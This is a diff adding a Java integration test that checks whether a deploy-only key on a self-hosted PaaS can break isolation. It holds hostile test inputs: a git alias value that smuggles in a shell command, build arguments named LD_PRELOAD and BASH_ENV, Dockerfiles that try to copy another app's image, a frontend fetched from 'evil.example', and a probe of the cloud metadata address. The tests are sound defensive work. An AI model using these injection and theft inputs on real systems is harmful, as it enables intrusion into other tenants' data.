@@ -1,0 +1,238 @@
+package dev.pocketpaas.cli.e2e;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.pocketpaas.cli.e2e.Shell.Seen;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
+import org.junit.jupiter.api.extension.ExtendWith;
+
+/** What docs/security.md says of a key that may only deploy, tried with such a key. */
+@ExtendWith(TestDroplet.Shared.class)
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
+class DeployKeyIT {
+    private static final String MARKER = "/var/tmp/marker-deploy-key";
+
+    /** Says what it can reach, from wherever it runs. */
+    private static final String LOOK = """
+            use strict; use warnings; use IO::Socket::INET;
+            $| = 1;
+            my $met = IO::Socket::INET->new(PeerAddr => '169.254.169.254', PeerPort => 80, Timeout => 2) ? 'reached' : 'closed';
+            open my $status, '<', '/proc/self/status' or die; my %has = map { /^(\\w+):\\s*(\\S+)/ ? ($1 => $2) : () } <$status>;
+            print "metadata $met, bounding $has{CapBnd}, nnp $has{NoNewPrivs}\\n";
+            """;
+
+    private static TestApp app;
+    private static TestApp other;
+    private static Laptop ci;
+
+    @BeforeAll
+    static void aKey(TestDroplet droplet) throws Exception {
+        other = TestApp.create(droplet, "dk-other");
+        other.write("Dockerfile", """
+                FROM pocketpaas/stack:24
+                USER root
+                RUN --mount=type=cache,target=/cache echo canary-cache >/cache/mark
+                COPY app.pl /srv/app.pl
+                CMD ["perl", "/srv/app.pl"]
+                """);
+        other.write("Procfile", "");
+        other.commit("with a Dockerfile");
+        other.must("deploy");
+        app = TestApp.create(droplet, "dk");
+        app.must("deploy");
+        app.write("look.pl", LOOK);
+        app.write("Procfile", "");
+        Seen generated = app.must("keys", "add", "dk-ci", "--app", "dk", "--generate");
+        Path key = app.laptop().home().resolve("dk-key");
+        Files.writeString(key, generated.out().substring(generated.out().indexOf("-----BEGIN")));
+        app.laptop().must(app.laptop().home(), "chmod", "600", key.toString());
+        ci = droplet.stranger("dk-ci")
+                .with("POCKETPAAS_SSH_KEY", key.toString())
+                .with("POCKETPAAS_HOST", "127.0.0.1:" + droplet.sshPort());
+        droplet.inside("ip address add 169.254.169.254/32 dev lo; rm -f " + MARKER);
+    }
+
+    @AfterAll
+    static void clean(TestDroplet droplet) {
+        droplet.inside("ip address del 169.254.169.254/32 dev lo; rm -f /var/lib/pocketpaas/host/metadata " + MARKER);
+        app.manifest();
+        app.must("keys", "remove", "dk-ci");
+        app.destroy();
+        other.destroy();
+    }
+
+    @Test
+    @Order(1)
+    void buildArgumentsAreBuildArgumentsWhateverTheirNames(TestDroplet droplet) {
+        String command = "!id >" + MARKER + "; echo owned #";
+        List<String> names = List.of(
+                "CLIENT",
+                "WORK",
+                "OUT",
+                "CACHE",
+                "SETTINGS",
+                "APP",
+                "PP_ROOT",
+                "PP_LIB",
+                "BUILD_SECONDS",
+                "REPLY",
+                "PATH",
+                "HOME",
+                "IFS",
+                "PS4",
+                "SHELLOPTS",
+                "BASH_ENV",
+                "ENV",
+                "LD_PRELOAD",
+                "PYTHONPATH",
+                "UID",
+                "DOCKER_HOST",
+                "DOCKER_CONFIG",
+                "BUILDX_CONFIG",
+                "GIT_SSH_COMMAND",
+                "SSH_ASKPASS",
+                "HTTP_PROXY",
+                "http_proxy",
+                "XDG_CONFIG_HOME",
+                "GODEBUG",
+                "SSL_CERT_FILE",
+                "TMPDIR");
+        StringBuilder manifest = new StringBuilder("build:\n  args:\n");
+        StringBuilder dockerfile = new StringBuilder("FROM pocketpaas/stack:24\nUSER root\n");
+        // As variables of a step PATH and the like would be the step's own: they are looked at where they are text.
+        dockerfile.append("ARG CLIENT\nARG GIT_CONFIG_COUNT\nARG GIT_CONFIG_KEY_0\nARG GIT_CONFIG_VALUE_0\n");
+        manifest.append("    GIT_CONFIG_COUNT: \"1\"\n    GIT_CONFIG_KEY_0: alias.build\n    GIT_CONFIG_VALUE_0: '")
+                .append(command)
+                .append("'\n");
+        for (String name : names) {
+            manifest.append("    ").append(name).append(": ").append(name.equals("CLIENT") ? "git" : "canary-" + name);
+            manifest.append('\n');
+            if (!name.equals("CLIENT")) {
+                dockerfile
+                        .append("ARG ")
+                        .append(name)
+                        .append("\nLABEL seen.")
+                        .append(name)
+                        .append("=\"${")
+                        .append(name);
+                dockerfile.append("}\"\n");
+            }
+        }
+        dockerfile.append("ENV PATH=/usr/bin:/bin LD_PRELOAD= BASH_ENV= ENV=\n");
+        dockerfile.append("RUN echo \"$CLIENT $GIT_CONFIG_COUNT $GIT_CONFIG_KEY_0\"; perl -e 'sleep 4'\n");
+        dockerfile.append("COPY app.pl /srv/app.pl\nCMD [\"/usr/bin/perl\", \"/srv/app.pl\"]\n");
+        app.write("Dockerfile", dockerfile.toString());
+        app.manifest(manifest.toString());
+        app.commit("arguments");
+        // Whoever has an account on the host, meanwhile.
+        droplet.inside("(for i in $(seq 300); do cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; sleep 0.1; done"
+                + " | grep --line-buffered -ao 'canary-[A-Z][A-Z_]*' >/var/tmp/dk-seen; true) >/dev/null 2>&1 & "
+                + "echo $! >/var/tmp/dk-pid");
+
+        Seen seen = deploy();
+
+        droplet.inside("bash -c 'sleep 1; true' canary-CONTROL; pkill -P \"$(cat /var/tmp/dk-pid)\"; true");
+        assertThat(seen.exit()).as(seen.toString()).isZero();
+        assertThat(seen.all()).contains("git 1 alias.build").doesNotContain("owned");
+        assertThat(droplet.inside("ls " + MARKER + " 2>&1").out()).contains("No such file");
+        assertThat(droplet.inside("sort -u /var/tmp/dk-seen; rm /var/tmp/dk-seen /var/tmp/dk-pid")
+                        .out())
+                .isEqualTo("canary-CONTROL\n");
+        String labels = droplet.inside("docker image inspect --format '{{json .Config.Labels}}' "
+                        + "$(docker ps -q --filter label=pocketpaas.app=dk | xargs docker inspect --format {{.Image}})")
+                .out();
+        for (String name : names) {
+            if (!name.equals("CLIENT")) {
+                assertThat(labels).contains("\"seen." + name + "\":\"canary-" + name + "\"");
+            }
+        }
+        assertThat(app.get("/").body()).isEqualTo("one");
+        app.manifest("build: { args: { BUILDKIT_CACHE_MOUNT_NS: x } }");
+        app.commit("the builder's own");
+        assertThat(deploy().exit()).isEqualTo(2);
+    }
+
+    @Test
+    @Order(2)
+    void anotherAppsImagesAndCachesAreOutOfReach(TestDroplet droplet) {
+        String[] image = droplet.inside("docker image ls --no-trunc --filter label=pocketpaas.app=dk-other "
+                        + "--format '{{.Repository}}:{{.Tag}} {{.ID}}'")
+                .out()
+                .strip()
+                .split(" ");
+        String id = image[1];
+        app.manifest();
+        for (String dockerfile : List.of(
+                "FROM " + image[0],
+                "FROM docker.io/library/" + image[0],
+                "FROM " + id,
+                "FROM " + id.substring(7, 19),
+                "ARG A=dk-other\nFROM pocketpaas-app-${A}:" + image[0].split(":")[1],
+                "FROM pocketpaas-app-dk-other",
+                "FROM pocketpaas/stack:24\nCOPY --from=" + image[0] + " /srv /stolen",
+                "FROM pocketpaas/stack:24\nRUN --mount=type=bind,from=" + image[0] + ",target=/x cp -r /x/srv /stolen",
+                "# syntax=evil.example/frontend\nFROM pocketpaas/stack:24")) {
+            app.write("Dockerfile", dockerfile + "\nCMD [\"true\"]\n");
+            app.commit("theft");
+
+            Seen seen = deploy();
+
+            assertThat(seen.exit()).as(dockerfile + seen).isEqualTo(5);
+            assertThat(seen.all()).as(dockerfile).containsAnyOf("part of another app", "what other apps have built");
+        }
+        app.manifest("build: { image: '" + image[0] + "' }");
+        app.commit("as an image");
+        assertThat(deploy().all()).contains("part of another app");
+
+        app.manifest();
+        app.write("Dockerfile", """
+                FROM pocketpaas/stack:24
+                USER root
+                ARG BUILDKIT_CACHE_MOUNT_NS=
+                RUN --mount=type=cache,target=/cache echo "sees: $(cat /cache/mark 2>/dev/null)."; echo mine >/cache/mine
+                COPY look.pl app.pl /srv/
+                RUN perl /srv/look.pl
+                CMD ["perl", "/srv/app.pl"]
+                """);
+        app.manifest("release: perl /srv/look.pl", "capabilities: [NET_RAW]");
+        app.commit("the cache");
+        Seen built = deploy();
+        assertThat(built.exit()).as(built.toString()).isZero();
+        assertThat(built.all()).contains("sees: .");
+        // The build, and then the release command in a container of the app.
+        assertThat(built.all()).contains("metadata closed, bounding 00000000a80425fb");
+        assertThat(built.all()).contains("metadata closed, bounding 00000000000024fb, nnp 1");
+    }
+
+    @Test
+    @Order(3)
+    void anAdminOpensTheMetadataAddressAndNobodyGetsMoreRights(TestDroplet droplet) {
+        droplet.inside("printf open >/var/lib/pocketpaas/host/metadata; /usr/local/lib/pocketpaas/current/metadata");
+        app.manifest("release: perl /srv/look.pl");
+        app.commit("with fewer rights");
+        assertThat(deploy().all()).contains("metadata reached, bounding 00000000000004fb, nnp 1");
+        droplet.inside("iptables -t raw -F; printf closed >/var/lib/pocketpaas/host/metadata;"
+                + " systemctl start pocketpaas-notices.service");
+        app.message("again");
+        app.commit("again");
+        assertThat(deploy().all()).contains("metadata closed");
+
+        app.manifest("capabilities: [SYS_ADMIN]");
+        app.commit("more rights");
+        Seen refused = deploy();
+        assertThat(refused.exit()).isEqualTo(2);
+        assertThat(refused.err()).contains("\"SYS_ADMIN\" is not a capability that an app can have");
+    }
+
+    private static Seen deploy() {
+        return ci.pocketpaas(app.directory(), "deploy", "--accept-new-host-key");
+    }
+}
